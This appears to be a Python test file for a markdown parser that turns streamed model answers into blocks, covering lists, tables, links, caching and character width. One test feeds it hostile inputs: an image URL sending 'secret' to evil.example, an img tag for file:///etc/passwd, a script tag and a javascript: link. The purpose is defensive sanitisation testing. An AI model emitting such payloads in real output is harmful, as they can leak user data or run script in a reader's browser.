"""What models write becomes blocks; what streams becomes the same blocks as what is there at once."""

import random
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app import markdown
from app.growing import Growing
from app.markdown import Block, Code, Paragraph, Table, parse
from app.spans import Span, ems

ANSWER = """# Title

Some **bold *both* text** and `code`, ~~gone~~,
a second line.
中文
换行

1. one
   ```python
   print(1)
   ```
   after it
2. two
   - [ ] open
   - [x] done

> quoted
> - list

| a | b |
|:--|--:|
| 1 | **2**<br>3 |

---

```
never closed"""


def text_of(paragraph: Paragraph) -> str:
    return "".join(span.text for span in paragraph.spans)


def test_the_blocks_of_an_answer() -> None:
    blocks = parse(ANSWER)
    assert blocks[0] == Paragraph((Span("Title"),), heading=1)
    second = blocks[1]
    assert isinstance(second, Paragraph)
    assert text_of(second) == "Some bold both text and code, gone, a second line. 中文换行"
    assert Span("both", strong=True, emphasis=True) in second.spans
    assert Span("code", code=True) in second.spans
    assert Span("gone", strike=True) in second.spans
    items = [(b.marker, b.indent, text_of(b)) for b in blocks if isinstance(b, Paragraph) and b.indent]
    assert items == [
        ("1.", 1, "one"),
        ("", 1, "after it"),
        ("2.", 1, "two"),
        ("☐", 2, "open"),
        ("☑", 2, "done"),
        ("•", 1, "list"),
    ]
    assert Code("python", "print(1)", indent=1) in blocks
    (table,) = (b for b in blocks if isinstance(b, Table))
    assert table.header == ((Span("a"),), (Span("b"),))
    assert table.rows == (((Span("1"),), (Span("2", strong=True), Span("\n3"))),)
    assert table.align == ("left", "right")
    assert blocks[-1] == Code("", "never closed")


@given(st.data())
@settings(deadline=None, max_examples=60)
def test_growing_comes_to_the_same(data: st.DataObject) -> None:
    """However the answer is cut into pieces."""
    growing, end = Growing(), 0
    while end < len(ANSWER):
        end += data.draw(st.integers(1, 40))
        assert growing.read(ANSWER[:end])
    assert growing.read(ANSWER) == parse(ANSWER)


@given(st.text(alphabet="ab*_`#>-|1.[]()!~<&\n\t 中\\:/", max_size=80))
@settings(deadline=None, max_examples=200)
def test_any_text_can_be_read_and_grown(text: str) -> None:
    parse(text)
    growing = Growing()
    for end in range(0, len(text), 7):
        growing.read(text[:end])
    growing.read(text)


LATER = """See [one], [two][1] and [three](http://three.example/).

- item [one]

[one]: http://one.example/ "said"

Then [1] and [two].

[1]: http://two.example/
[two]: no.example "this is none" and more

The end.
"""


@pytest.mark.parametrize("seed", range(8))
def test_an_address_that_is_defined_later_is_known_before(seed: int) -> None:
    growing, chance, end = Growing(), random.Random(seed), 0
    while end < len(LATER):
        end += chance.randint(1, 12)
        assert growing.read(LATER[:end]) == parse(LATER[:end])
    assert {s.link for b in parse(LATER) if isinstance(b, Paragraph) for s in b.spans if s.link} == {
        f"http://{name}.example/" for name in ("one", "two", "three")
    }


def test_what_stands_in_a_list_or_table_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """However long the last block is."""
    for line in ("- item {} with *some* words\n", "| {} | *two* |\n"):
        growing, text = Growing(), "| a | b |\n|---|---|\n" if line[0] == "|" else ""
        markdown._spans.cache_clear()
        for n in range(300):
            text += line.format(n)
            growing.read(text)
        assert markdown._spans.cache_info().misses < 700


def test_a_paragraph_without_end_is_read_in_pieces_that_stay() -> None:
    growing, text = Growing(), ""
    blocks: Sequence[Block] = ()
    markdown._spans.cache_clear()
    for n in range(200):
        text += f"And **{n}** more words that no line ever ends, for whatever reason. " * 4
        blocks = growing.read(text)
    assert blocks == parse(text)
    assert len(blocks) > 10
    said = " ".join(text_of(block) for block in blocks if isinstance(block, Paragraph))
    assert said.split() == text.replace("**", "").split()
    assert markdown._spans.cache_info().misses < 240


def test_what_lies_too_deep_is_there_as_text() -> None:
    for deep in (">" * 1000 + " here", "- " * 1000 + "here", "\n".join("  " * n + "- here" for n in range(200))):
        said = "".join(text_of(block) for block in parse(deep) if isinstance(block, Paragraph))
        assert "here" in said
        assert said.count("here") == deep.count("here")


def test_a_text_that_is_another_begins_anew() -> None:
    growing = Growing()
    growing.read("# One\n\ntwo\n\nthree")
    assert growing.read("Else") == parse("Else")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?q=secret)",
        '<img src="file:///etc/passwd">',
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "![x][r]\n\n[r]: http://evil.example/a.png",
    ],
)
def test_nothing_but_text_links_and_code_comes_out(hostile: str) -> None:
    for block in parse(hostile):
        assert isinstance(block, Paragraph)
        for span in block.spans:
            assert span.link in ("", "http://evil.example/?q=secret", "http://evil.example/a.png")


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("see https://a.example/x.", "https://a.example/x"),
        ("(https://a.example/w_(x))", "https://a.example/w_(x)"),
        ("在https://a.example/路径。后", "https://a.example/路径"),
        ("<https://a.example/y>", "https://a.example/y"),
    ],
)
def test_bare_addresses_are_links(text: str, link: str) -> None:
    (block,) = parse(text)
    assert isinstance(block, Paragraph)
    assert [span.link for span in block.spans if span.link] == [link]


def test_chinese_is_wider() -> None:
    assert ems("ab中文c") == pytest.approx(2 * ems("中") + 3 * ems("a"))
    assert ems("中") > 2 * ems("a") > 0
